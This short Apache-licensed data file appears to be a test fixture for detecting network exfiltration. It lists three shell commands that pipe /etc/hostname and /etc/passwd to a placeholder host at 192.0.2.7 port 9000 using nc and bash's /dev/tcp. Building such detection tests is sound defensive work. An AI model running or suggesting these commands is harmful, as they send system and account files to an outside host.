# SPDX-License-Identifier: Apache-2.0
# hits: 3
# fake: /usr/bin/nc.openbsd=nc
sh -c 'tar czf - /etc/hostname | nc -q1 192.0.2.7 9000'
sh -c 'nc -w 3 192.0.2.7 9000 < /etc/passwd'
bash -c 'cat /etc/passwd > /dev/tcp/192.0.2.7/9000'
